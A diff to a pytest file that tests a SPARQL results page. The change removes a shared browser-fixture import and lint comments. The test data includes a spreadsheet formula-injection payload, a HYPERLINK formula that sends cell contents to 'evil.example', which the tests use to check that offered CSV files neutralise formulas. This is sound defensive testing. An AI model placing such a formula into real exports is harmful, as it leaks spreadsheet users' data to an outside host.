@@ -16,8 +16,6 @@ from urllib.parse import quote
 
 import pytest
 
-from tests.test_sparql_page import browser  # noqa: F401  (the shared headless Chromium)
-
 # Cells as a spreadsheet must see them: (value in the results, cell of the CSV offered to people).
 CELLS = [
     ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
@@ -60,7 +58,7 @@ def run_on_page(page, url: str, query: str) -> None:
 
 
 @pytest.mark.browser
-def test_the_csv_offered_to_people_neutralises_formulas(server, browser) -> None:  # noqa: F811
+def test_the_csv_offered_to_people_neutralises_formulas(server, browser) -> None:
     page = browser.new_page(accept_downloads=True)
     run_on_page(page, server.url, VALUES_QUERY)
     with page.expect_download() as download_info:
@@ -80,7 +78,7 @@ def test_the_endpoint_csv_stays_exact(server) -> None:
 
 
 @pytest.mark.browser
-def test_only_web_iris_become_links(server, browser) -> None:  # noqa: F811
+def test_only_web_iris_become_links(server, browser) -> None:
     page = browser.new_page()
     run_on_page(page, server.url, IRI_QUERY)
     cells = page.locator("table.sparql-results tbody td")
